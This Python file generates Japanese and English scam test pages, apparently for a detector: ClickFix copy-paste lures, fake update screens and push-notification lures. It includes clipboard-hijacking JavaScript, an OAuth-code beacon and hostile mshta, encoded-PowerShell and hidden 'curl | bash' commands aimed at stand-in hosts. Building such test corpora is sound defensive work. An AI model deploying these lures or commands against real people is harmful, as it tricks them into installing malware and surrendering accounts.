"""Scams, part B: ClickFix variants, fake updates, notification-permission lures."""
import base64

from kit import add, esc, ul, bare_page, site_page, scam_wrap

S = "scam"


def sc(slug, url, cat, lang, note, repo, html, expect="block", path="-"):
    add(slug, S, expect, url, cat, lang, note, repo, path, html)


def ps_enc(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


def b64(s):
    return base64.b64encode(s.encode()).decode()


# clipboard writers (4 ways)
def clip(method, cmd):
    c = cmd.replace("\\", "\\\\").replace("'", "\\'")
    if method == "writeText":
        return f"function setClip(){{navigator.clipboard.writeText('{c}').catch(function(){{}})}}"
    if method == "execCommand":
        return (f"function setClip(){{var t=document.createElement('textarea');t.value='{c}';t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();"
                f"document.execCommand('copy');t.remove()}}")
    if method == "ClipboardItem":
        return (f"function setClip(){{try{{navigator.clipboard.write([new ClipboardItem({{'text/plain':new Blob(['{c}'],{{type:'text/plain'}})}})])}}catch(e){{}}}}")
    if method == "copyevent":
        return (f"function setClip(){{document.addEventListener('copy',function(e){{e.preventDefault();e.clipboardData.setData('text/plain','{c}')}},{{once:true}});document.execCommand('copy')}}")
    raise ValueError(method)


CF_CSS = ("body{margin:0;font-family:system-ui,-apple-system,'Segoe UI','Yu Gothic UI',sans-serif;background:%s;color:#222}"
          ".box{max-width:560px;margin:60px auto;background:#fff;border:1px solid #ddd;border-radius:8px;padding:26px 30px;box-shadow:0 2px 12px rgba(0,0,0,.08)}"
          ".cb{display:flex;align-items:center;gap:12px;border:1px solid #ccc;background:#fafafa;padding:14px;width:300px;cursor:pointer}"
          ".cb i{width:26px;height:26px;border:2px solid #888;border-radius:3px;display:inline-block;background:#fff}"
          ".steps{display:none;border-top:1px solid #eee;margin-top:18px;padding-top:12px}.steps li{margin:8px 0;font-size:16px}kbd{background:#eee;border:1px solid #aaa;border-radius:4px;padding:2px 7px;font-family:inherit}"
          ".small{font-size:12px;color:#777}.bad{color:#c00}")

# slug, lang, url, bg, title, lead, checkbox, steps(list), cmd, method, note, repo
CLICKFIX = [
    ("ja-cf-turnstile-travel", "ja", "https://tabi-no-techou.example.com/2026/12/hakone-onsen/", "#f6f6f6",
     "tabi-no-techou.example.com", "続行する前に、接続のセキュリティを確認する必要があります。", "人間であることを確認します",
     ["<kbd>Windows</kbd> + <kbd>R</kbd> を押します", "<kbd>Ctrl</kbd> + <kbd>V</kbd> を押します", "<kbd>Enter</kbd> を押すと確認が完了します"],
     'mshta https://cdn-turn.example.invalid/v/ja.hta # ✅ Cloudflare認証 ID:7741-2290', "writeText",
     "fake Cloudflare Turnstile over a hijacked travel blog: Win+R, Ctrl+V (mshta)", "JohnHammond/recaptcha-phish"),
    ("ja-cf-filefix-share", "ja", "https://docs-kyouyu.example.net/s/seikyusho-2026-12", "#eef3f8",
     "共有ファイル「請求書_2026年12月.pdf」", "このファイルは社内共有フォルダーに保存されています。開くにはファイルのパスをエクスプローラーで開いてください。", None,
     ["「パスをコピー」を押します", "<kbd>Windows</kbd> + <kbd>E</kbd> でエクスプローラーを開きます", "アドレスバーをクリック（<kbd>Ctrl</kbd> + <kbd>L</kbd>）して <kbd>Ctrl</kbd> + <kbd>V</kbd>、<kbd>Enter</kbd>"],
     'powershell -w h -c "iwr https://files.example.invalid/p.ps1 | iex"                                                      # C:\\共有\\経理部\\請求書_2026年12月.pdf', "execCommand",
     "FileFix: 'open the shared PDF path' in the Explorer address bar; command padded so only the fake path shows", "article:detection.fyi"),
    ("ja-cf-winx-cert", "ja", "https://rakuten-sec-cert.example.org/renew/", "#fff",
     "セキュリティ証明書の更新が必要です", "お客様のパソコンの電子証明書の有効期限が切れているため、ログインできません。以下の手順で証明書を更新してください（約30秒）。", None,
     ["「コードをコピー」を押します", "<kbd>Windows</kbd> + <kbd>X</kbd> を押し、「ターミナル（管理者）」を選びます", "「はい」を押したあと、右クリック（または <kbd>Ctrl</kbd> + <kbd>V</kbd>）で貼り付け、<kbd>Enter</kbd>"],
     "powershell -nop -ep bypass -enc " + ps_enc("iex (iwr 'https://cert-upd.example.invalid/r.ps1' -UseBasicParsing).Content"), "ClipboardItem",
     "brokerage-themed certificate renewal: Win+X, Terminal (Admin), encoded PowerShell via ClipboardItem", "article:www.jc3.or.jp"),
    ("ja-cf-teams-mic", "ja", "https://teams-kaigi-join.example.net/l/meetup-join/19%3ameeting_NDQ", "#f5f5f5",
     "Microsoft Teams 会議に参加", "マイクとカメラが検出できませんでした。オーディオドライバーの修復が必要です。", None,
     ["「修正」を押します", "<kbd>Windows</kbd> + <kbd>R</kbd> を押します", "<kbd>Ctrl</kbd> + <kbd>V</kbd> で貼り付けて <kbd>Enter</kbd>", "会議に自動で再接続されます"],
     'cmd /c "curl -s https://teams-fix.example.invalid/a.txt -o %TEMP%\\a.cmd && %TEMP%\\a.cmd" REM Teams Audio Repair', "writeText",
     "fake Teams meeting join: microphone not found, 'Fix' copies a cmd/curl command, Win+R", "article:www.microsoft.com"),
    ("ja-cf-mac-terminal-dl", "ja", "https://mac-app-dl.example.com/ja/clipstudio-free", "#f5f5f7",
     "Mac 版をインストール", "Apple のセキュリティ制限により、このアプリはターミナルからインストールする必要があります。", None,
     ["「コマンドをコピー」を押します", "<kbd>⌘ Command</kbd> + <kbd>Space</kbd> で「ターミナル」と入力して開きます", "<kbd>⌘ Command</kbd> + <kbd>V</kbd> で貼り付け、<kbd>Return</kbd>", "Mac のパスワードを入力してください（表示されませんが入力されています）"],
     'echo "Installing..." && curl -fsSL "$(echo ' + b64("https://dl-mac.example.invalid/install.sh") + ' | base64 -d)" | bash', "writeText",
     "fake Mac app download: Spotlight, Terminal, paste a base64-hidden curl | bash (AMOS style)", "article:www.malwarebytes.com"),
    ("ja-cf-bsod-fix", "ja", "https://win-fix-center.example.net/ja/repair", "#0078d7",
     "PC で問題が発生しました", "Windows がセキュリティ上の問題を検出したため、ブラウザが停止しました。修復コマンドを実行すると、自動的に元に戻ります。", None,
     ["<kbd>Windows</kbd> + <kbd>R</kbd>", "<kbd>Ctrl</kbd> + <kbd>V</kbd>", "<kbd>Enter</kbd>"],
     "conhost --headless powershell -w h -c \"$u='https://fix.example.invalid/r';iex(irm $u)\"", "copyevent",
     "full-screen fake blue screen telling the reader to paste a 'repair' command (clipboard via copy-event override)", "article:www.microsoft.com"),
    ("ja-cf-recaptcha-video", "ja", "https://anime-douga-hd.example.org/watch/88410", "#111",
     "動画を再生するには認証が必要です", "ボットによる不正アクセスが増えているため、追加の確認を行っています。", "私はロボットではありません",
     ["確認のため、<kbd>Windows</kbd> キーを押しながら <kbd>R</kbd> を押します", "表示された窓に <kbd>Ctrl</kbd> + <kbd>V</kbd>", "<kbd>OK</kbd> を押すと動画が再生されます"],
     'mshta.exe https://vid-verify.example.invalid/ja # I am not a robot: reCAPTCHA 認証ID 5521', "execCommand",
     "fake reCAPTCHA before a pirate video: Win+R, mshta", "JohnHammond/recaptcha-phish"),
    ("ja-cf-nslookup", "ja", "https://gakushu-print.example.com/download/sansu-3nen.pdf", "#fff",
     "DNS 認証", "ダウンロードの前に、お使いのネットワークの DNS を確認します。", "確認する",
     ["<kbd>Windows</kbd> + <kbd>R</kbd>", "<kbd>Ctrl</kbd> + <kbd>V</kbd>", "<kbd>Enter</kbd>（黒い画面が一瞬表示されます）"],
     'cmd /c "nslookup -q=txt verify.example.invalid 198.51.100.7 | findstr /v Name > %TEMP%\\v.cmd & %TEMP%\\v.cmd"', "writeText",
     "fake 'DNS check' before a worksheet download: nslookup-staged command via Win+R", "article:www.microsoft.com"),
    ("en-cf-booking", "en", "https://booking-guest-review.example.com/complaint/77410", "#f2f6fa",
     "Booking.com — Guest complaint #77410", "A guest reported a serious problem with your property. Verify you are human to view the complaint.", "I'm not a robot",
     ["Press <kbd>Windows</kbd> + <kbd>R</kbd>", "Press <kbd>Ctrl</kbd> + <kbd>V</kbd>", "Press <kbd>Enter</kbd> to view the complaint"],
     'mshta https://partner-verify.example.invalid/b.hta # Booking.com verification ID: 77410', "writeText",
     "fake Booking.com guest complaint with a CAPTCHA that says Win+R / Ctrl+V (hospitality ClickFix)", "article:www.microsoft.com"),
    ("en-cf-consentfix", "en", "https://sharepoint-docs-view.example.net/consent", "#faf9f8",
     "Verify your Microsoft account to view the document", "Sign in with Microsoft in the window that opens. When you reach a page that says 'This site can't be reached', copy the full address from the address bar and paste it below.", None,
     ["Click <b>Sign in</b>", "Copy the address that starts with <code>http://localhost</code>", "Paste it here and press Verify"],
     "", "none",
     "ConsentFix: the page has the reader paste back the OAuth localhost URL (authorization code) after signing in", "article:pushsecurity.com"),
    ("en-cf-crashfix", "en", "https://browser-repair.example.org/crash/", "#fff",
     "Your browser stopped abnormally", "Chrome detected that the NexShield extension crashed and corrupted your profile. Run the repair command to restore your tabs.", None,
     ["Press <kbd>Win</kbd> + <kbd>R</kbd>", "Paste with <kbd>Ctrl</kbd> + <kbd>V</kbd>", "Press <kbd>Enter</kbd> and wait 10 seconds"],
     'cmd /c start /min finger repair@198.51.100.9 | cmd', "ClipboardItem",
     "CrashFix: fake browser crash after a fake extension, 'repair' command using finger", "article:www.huntress.com"),
    ("en-cf-ai-share", "en", "https://chat-answers-share.example.com/share/6f1e-disk-space", "#fff",
     "How to free up disk space on macOS — shared conversation", "Here's the fastest way to clean system caches on your Mac. Open Terminal and paste this one-line command:", None,
     ["Open Terminal (⌘ Space, type Terminal)", "Paste the command", "Enter your password when asked"],
     'curl -fsSL $(echo ' + b64("https://cleaner.example.invalid/c.sh") + ' | base64 -d) | /bin/bash', "writeText",
     "fake shared AI-chat answer recommending a base64-hidden curl | bash on macOS (AMOS lure)", "article:www.huntress.com"),
    ("en-cf-turnstile-mac", "en", "https://mortgage-calc-free.example.net/", "#f6f6f6",
     "mortgage-calc-free.example.net", "Verify you are human by completing the action below.", "Verify you are human",
     ["Press <kbd>⌘</kbd> + <kbd>Space</kbd> and type <b>Terminal</b>", "Press <kbd>⌘</kbd> + <kbd>V</kbd> to paste the verification code", "Press <kbd>Return</kbd>"],
     'curl -s https://cf-check.example.invalid/m | nohup bash & # Cloudflare Ray ID 9a71c0', "ClipboardItem",
     "fake Cloudflare check with macOS Terminal steps", "article:www.malwarebytes.com"),
    ("en-cf-discord-verify", "en", "https://discord-verify-bot.example.org/server/88140", "#313338",
     "Verify to join Crypto Alpha Calls", "Our server uses Safeguard verification. Complete the one-time check to get access.", "Verify",
     ["Press <kbd>Windows</kbd> + <kbd>R</kbd>", "Paste the token with <kbd>Ctrl</kbd> + <kbd>V</kbd>", "Press <kbd>Enter</kbd>"],
     "powershell -w hidden -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + b64("iwr https://sg.example.invalid/p|iex") + "')))\"", "execCommand",
     "fake Discord 'Safeguard' verification bot page: Win+R with base64 PowerShell", "article:research.checkpoint.com"),
    ("en-cf-zoom-audio-mac", "en", "https://zoom-us-meet.example.com/j/8841022917", "#fff",
     "Zoom — Audio device error", "Your microphone could not be started (error 0x80070490). Run the audio fix to join the meeting.", None,
     ["Open Terminal", "Paste the fix with <kbd>⌘</kbd> + <kbd>V</kbd>", "Press Return; you'll be reconnected automatically"],
     'sudo /bin/zsh -c "$(curl -fsSL https://zoom-fix.example.invalid/audio.sh)"', "copyevent",
     "fake Zoom meeting audio error with macOS Terminal fix (fake-interview lure)", "article:www.huntress.com"),
    ("en-cf-winx-pdf", "en", "https://docusign-viewer.example.net/envelope/EA71", "#f4f4f4",
     "Document couldn't be displayed", "Your PDF viewer component is out of date. Update it with Windows Terminal to open the signed agreement.", None,
     ["Press <kbd>Win</kbd> + <kbd>X</kbd>, then <kbd>I</kbd> to open Terminal", "Right-click to paste", "Press <kbd>Enter</kbd>"],
     "powershell -ep bypass -enc " + ps_enc("Start-BitsTransfer https://pdfv.example.invalid/v.exe $env:TEMP\\v.exe; & $env:TEMP\\v.exe"), "writeText",
     "fake e-signature viewer error: Win+X, I (Terminal), encoded PowerShell", "article:www.proofpoint.com"),
]


CF_MODE = {
    "ja-cf-turnstile-travel": ("overlay", "旅の手帳"), "ja-cf-filefix-share": ("clone", "ドキュメント共有センター"), "ja-cf-winx-cert": ("clone", "楽天証券 お客様サポート"),
    "ja-cf-mac-terminal-dl": ("clone", "Mac無料ソフト倉庫"), "ja-cf-recaptcha-video": ("overlay", "アニメ動画HD"), "ja-cf-nslookup": ("overlay", "学習プリント館"),
    "en-cf-booking": ("clone", "Booking.com Partner Hub"), "en-cf-consentfix": ("clone", "SharePoint Online"), "en-cf-ai-share": ("clone", "ChatAnswers"),
    "en-cf-turnstile-mac": ("overlay", "Free Mortgage Calculator"), "en-cf-winx-pdf": ("clone", "DocuSign"), "en-cf-crashfix": ("overlay", None),
}


def clickfix():
    for slug, lang, url, bg, title, lead, cbtext, steps, cmd, method, note, repo in CLICKFIX:
        ja = lang == "ja"
        st = CF_CSS % bg
        stepsh = "<ol>" + "".join(f"<li>{s}</li>" for s in steps) + "</ol>"
        if method == "none":  # ConsentFix
            body = (f'<div class="box"><h1 style="font-size:22px">{esc(title)}</h1><p>{esc(lead)}</p>{stepsh}'
                    '<p><button id="signin" style="padding:10px 20px">Sign in</button></p><p><input id="u" style="width:100%;padding:8px" placeholder="http://localhost/?code=..."></p>'
                    '<p><button id="verify" style="padding:10px 20px;background:#0067b8;color:#fff;border:0">Verify</button></p><p class="small">Microsoft · Privacy &amp; cookies</p></div>')
            js = ("document.getElementById('signin').addEventListener('click',function(){window.open('login-redirect.html','_blank','width=480,height=600')});"
                  "document.getElementById('verify').addEventListener('click',function(){var v=document.getElementById('u').value;if(v.indexOf('code=')>0){var i=new Image();i.src='c.gif?d='+encodeURIComponent(v)}});")
        else:
            btn = (f'<div class="cb" id="cb"><i></i><span>{esc(cbtext)}</span></div>' if cbtext else
                   f'<p><button id="cb" style="padding:12px 26px;font-size:16px;background:#0b57d0;color:#fff;border:0;border-radius:6px">{"コピー" if ja and "パス" in steps[0] else "コードをコピー" if ja and "コード" in steps[0] else "修正" if ja and "修正" in steps[0] else "コマンドをコピー" if ja else "Copy fix"}</button></p>')
            extra = ""
            if "bsod" in slug:
                st += "body{background:#0078d7;color:#fff}.box{background:#0078d7;color:#fff;border:0;box-shadow:none;font-size:18px}"
                extra = ("document.addEventListener('click',function(){var d=document.documentElement;d.requestFullscreen&&d.requestFullscreen().catch(function(){})},{once:true});")
            body = (f'<div class="box"><h1 style="font-size:22px">{esc(title)}</h1><p>{esc(lead)}</p>{btn}'
                    f'<div class="steps" id="steps"><p class="bad"><b>{"追加の確認が必要です" if ja else "Additional verification required"}</b></p>{stepsh}</div>'
                    f'<p class="small">{"Ray ID: 8f2a91c0d44e · パフォーマンスとセキュリティ: Cloudflare" if "turnstile" in slug else "© 2026"}</p></div>')
            js = (clip(method, cmd) + "\ndocument.getElementById('cb').addEventListener('click',function(){setClip();document.getElementById('steps').style.display='block';"
                  "var i=this.querySelector('i');if(i)i.style.background='#2b9a3a'});\n" + extra)
            if False:
                # overlay on top of an ordinary page
                html = site_page(slug, lang, "旅の手帳" if "travel" in url else "学習プリント館" if ja else "Free Mortgage Calculator", title,
                                 ("<p>箱根の温泉宿を5軒めぐってきました。</p>" if ja else "<p>Estimate your monthly payment.</p>") * 4, "#557",
                                 scripts=js, after_body=f'<div style="position:fixed;inset:0;background:{bg};z-index:99;overflow:auto">{body}</div>', extra_css=st.replace("body{", ".x{"))
                sc(slug, url, "clickfix", lang, note, repo, html)
                continue
        mode, site = CF_MODE.get(slug, ("bare", None))
        sc(slug, url, "clickfix", lang, note, repo, scam_wrap(slug, lang, mode, title, body, st, js, site, "#0b57d0"))


# --------------------------------------------------------------- fake updates
FU = [
    # slug, lang, url, title, text, file, over_site, auto, note, repo, fullscreen
    ("ja-fu-teams-msix", "ja", "https://teams-update-jp.example.net/download/",
     "Microsoft Teams の更新が必要です", "ご利用のバージョン（24.1）はサポートが終了しました。会議に参加するには最新版（25.3）に更新してください。更新は約1分で完了します。",
     "MSTeams-x64-update.msix", None, True, "fake Teams update page with auto-starting MSIX download", "article:www.trendmicro.com", False),
    ("ja-fu-win11-full", "ja", "https://win11-kousin.example.com/24h2/",
     "Windows の更新プログラムを構成しています（32%）", "コンピューターの電源を切らないでください。重要なセキュリティ更新プログラム KB5048667 の適用に失敗しました。続行するには「今すぐ更新」を押してダウンロードしたファイルを実行してください。",
     "KB5048667-x64-ja.exe", None, False, "full-screen fake Windows Update screen that asks to run a downloaded EXE", "article:www.malwarebytes.com", True),
    ("ja-fu-ime-hijack", "ja", "https://machi-no-kouminkan.example.jp/oshirase/2026-12.html",
     "日本語入力システムの更新", "このページには新しい文字コードが使われているため、日本語入力（IME）の更新が必要です。更新しない場合、文字が正しく表示されません。",
     "IME_JP_Update_2026.zip", "町の公民館だより", False, "fake IME update overlay on a hacked community-centre site (ZIP)", "article:www.trendmicro.com", False),
    ("ja-fu-vb-pattern", "ja", "https://virusbuster-pattern.example.org/manual/",
     "ウイルスバスター パターンファイル 手動更新ツール", "パターンファイルの自動更新に失敗しています（エラー 0x2019）。お使いのPCは新しいウイルスから保護されていません。手動更新ツールを実行してください。",
     "VB_PatternUpdate.exe", None, True, "fake antivirus pattern-update tool with auto download", "article:www.trendmicro.com", False),
    ("ja-fu-chrome-localnews", "ja", "https://shinano-chiiki-news.example.jp/article/2026/12/07/0417.html",
     "Google Chrome の更新に失敗しました", "お使いの Chrome のバージョンが古いため、このページを正しく表示できません。推奨アップデートをインストールしてください。",
     "Chrome_Update_142.0.zip", "信濃地域ニュース", False, "fake Chrome update overlay on a hijacked regional news site", "article:www.trendmicro.com", False),
    ("en-fu-zoom-workplace", "en", "https://zoom-workplace-update.example.com/j/84410227",
     "Update Zoom Workplace to join", "Your Zoom version is no longer supported. The host requires version 6.3 or later. Download the update and join the meeting.",
     "ZoomWorkplace_Update_6.3.exe", None, True, "fake Zoom meeting link that requires an update (auto-download EXE)", "article:www.malwarebytes.com", False),
    ("en-fu-firefox-church", "en", "https://stmarks-lutheran.example.org/events/advent-2026",
     "Firefox needs an update", "A critical security update is available for Firefox. Your current version may expose your passwords. Update now to continue.",
     "Firefox.Update.zip", "St. Mark's Lutheran Church", False, "fake Firefox update overlay on a hacked church website (SocGholish style)", "article:www.proofpoint.com", False),
    ("en-fu-vlc-codec", "en", "https://watch-hd-movies.example.net/v/holiday-special",
     "Codec missing", "This video requires the HEVC Video Extension. Install the free codec to play the video.",
     "HEVC_Codec_Installer.exe", None, False, "fake 'codec missing' on a video page", "article:www.malwarebytes.com", False),
    ("en-fu-edge-pdf", "en", "https://invoice-portal-view.example.com/doc/INV-44102",
     "Microsoft Edge update required", "The document INV-44102.pdf uses a format that requires Microsoft Edge 143. Install the update to view the invoice.",
     "MicrosoftEdgeUpdate.msix", None, False, "fake Edge update for an invoice PDF (MSIX)", "article:www.microsoft.com", False),
    ("en-fu-mac-chrome-dmg", "en", "https://chrome-mac-update.example.net/",
     "Chrome for Mac — update required", "Your Chrome is out of date. To continue browsing safely, download and open the update. If macOS blocks it, right-click the file and choose Open.",
     "GoogleChromeUpdate.dmg", None, True, "fake Chrome for Mac update with Gatekeeper bypass tip (DMG)", "article:www.malwarebytes.com", False),
]


FU_MODE = {
    "ja-fu-teams-msix": ("clone", "Microsoft Teams ダウンロードセンター"), "ja-fu-vb-pattern": ("clone", "ウイルスバスター サポート"),
    "en-fu-zoom-workplace": ("clone", "Zoom Workplace"), "en-fu-vlc-codec": ("overlay", "HD Movies Free"), "en-fu-edge-pdf": ("clone", "Invoice Portal"),
}


def fake_updates():
    for slug, lang, url, title, text, fn, site, auto, note, repo, fs in FU:
        ja = lang == "ja"
        dl_btn = f'<a id="dl" href="{fn}" download style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 30px;border-radius:4px;text-decoration:none;font-size:17px">{"今すぐ更新" if ja else "Update now"}</a>'
        box = (f'<div style="max-width:520px;margin:60px auto;background:#fff;border-radius:8px;padding:28px;box-shadow:0 6px 24px rgba(0,0,0,.35);font-family:sans-serif;color:#222">'
               f'<h1 style="font-size:22px">{esc(title)}</h1><p>{esc(text)}</p>{dl_btn}<p style="font-size:12px;color:#777">{esc(fn)} · 84.2 MB</p></div>')
        js = ""
        if auto:
            js += f"setTimeout(function(){{document.getElementById('dl').click()}},1800);"
        if fs:
            box = (f'<div style="position:fixed;inset:0;background:#0078d7;color:#fff;font-family:\'Segoe UI\',sans-serif;text-align:center;padding-top:20vh">'
                   f'<div style="font-size:40px">⟳</div><h1 style="font-weight:300">{esc(title)}</h1><p style="font-size:18px">{esc(text)}</p>'
                   f'<a id="dl" href="{fn}" download style="color:#fff;border:1px solid #fff;padding:10px 30px;text-decoration:none">今すぐ更新</a></div>')
            js += ("document.addEventListener('click',function(){var d=document.documentElement;d.requestFullscreen&&d.requestFullscreen().then(function(){navigator.keyboard&&navigator.keyboard.lock&&navigator.keyboard.lock()}).catch(function(){})});"
                   "document.body.style.cursor='none';")
        if site:
            html = site_page(slug, lang, site, "お知らせ" if ja else "Events",
                             ("<p>12月の行事予定をお知らせします。餅つき大会は12月20日（日）午前10時から。</p><p>年末年始の休館日：12月29日～1月3日</p>" if ja else
                              "<p>Join us for Advent services every Sunday at 10 am. Soup supper on Wednesdays.</p><p>Christmas Eve candlelight service at 7 pm.</p>") * 2,
                             "#556", scripts=js, after_body=f'<div style="position:fixed;inset:0;background:rgba(0,0,0,.6);z-index:99">{box}</div>')
        else:
            mode, site2 = FU_MODE.get(slug, ("bare", None))
            html = scam_wrap(slug, lang, mode, title, box, "body{margin:0;background:#e8eaed}", js, site2, "#1a73e8")
        sc(slug, url, "fake-update", lang, note, repo, html)


# --------------------------------------------------------------- notification-permission lures (alert)
NOTIF = [
    ("ja-na-robot", "ja", "https://kakunin-robot.example.com/?sid=9921", "ロボットでない場合は「許可」をクリックしてください",
     "あなたがロボットでないことを確認するため、ブラウザの「許可」ボタンを押してください。", True, True, "CAPTCHA-style push lure: 'click Allow if you are not a robot' on load, asks again after deny"),
    ("ja-na-age18", "ja", "https://douga-age-check.example.net/", "18歳以上の方は「許可」を押してください",
     "年齢確認のため、通知を許可してください。許可すると動画の再生が始まります。", True, False, "age-check push lure before a video"),
    ("ja-na-download", "ja", "https://file-dl-jp.example.org/get/setsumeisho.pdf", "ダウンロードの準備ができました",
     "ファイルをダウンロードするには「許可」を押してください。", False, True, "download-ready push lure after a button"),
    ("ja-na-kyufukin", "ja", "https://kyufu-oshirase.example.com/", "【重要】給付金の受け取り通知を有効にしてください",
     "物価高対策の給付金（1人5万円）の受付状況をお知らせします。「許可」を押して通知を受け取ってください。", True, True, "benefit-payment push lure (government theme)"),
    ("en-na-robot-anim", "en", "https://verify-human-now.example.com/p/4410", "Click \"Allow\" if you are not a robot",
     "Press Allow to verify that you are not a robot and continue to the site.", True, True, "CAPTCHA push lure with an animated robot, asks again after deny"),
    ("en-na-video", "en", "https://streamhub-play.example.net/", "Click Allow to watch the video",
     "Your video is ready. Click Allow to start playback.", True, False, "video push lure on load"),
    ("en-na-prize", "en", "https://winner-dec-2026.example.org/", "Congratulations! Click Allow to claim your reward",
     "You've been selected for a $1,000 gift card. Allow notifications to receive your claim code.", False, True, "prize push lure after a button"),
    ("en-na-antivirus", "en", "https://security-alerts-free.example.com/", "Enable security notifications",
     "Your device may be at risk. Allow notifications to receive real-time virus alerts.", True, True, "fake antivirus push lure on load"),
]


def notif():
    for slug, lang, url, head, text, onload, again, note in NOTIF:
        ja = lang == "ja"
        body = (f'<div style="text-align:center;padding-top:12vh;font-family:sans-serif"><div style="font-size:80px" id="robot">🤖</div>'
                f'<h1 style="font-size:26px">{esc(head)}</h1><p>{esc(text)}</p>'
                f'<p style="font-size:40px">↖</p><button id="go" style="font-size:18px;padding:10px 30px">{"続ける" if ja else "Continue"}</button></div>')
        js = ("function ask(){if(!('Notification' in window))return;Notification.requestPermission().then(function(p){if(p==='granted'){navigator.serviceWorker&&navigator.serviceWorker.register('sw.js').catch(function(){});location.href='landing.html'}"
              + ("else{setTimeout(ask,3000)}" if again else "") + "})}\n"
              + ("window.addEventListener('load',ask);" if onload else "") + "document.getElementById('go').addEventListener('click',ask);"
              + "var r=document.getElementById('robot'),k=0;setInterval(function(){r.style.transform='rotate('+(k++%2?10:-10)+'deg)'},500);")
        mode = "overlay" if slug in ("ja-na-age18", "en-na-video", "en-na-prize", "ja-na-kyufukin") else "bare"
        site = {"ja-na-age18": "無料動画まとめ", "en-na-video": "StreamHub", "ja-na-kyufukin": "くらしの給付金ナビ"}.get(slug)
        sc(slug, url, "notification-abuse", lang, note, "article:www.malwarebytes.com" if not ja else "article:www.ipa.go.jp",
           scam_wrap(slug, lang, mode, head, body, "body{margin:0;background:#f0f0f0}", js, site), expect="alert")


def build():
    clickfix()
    fake_updates()
    notif()
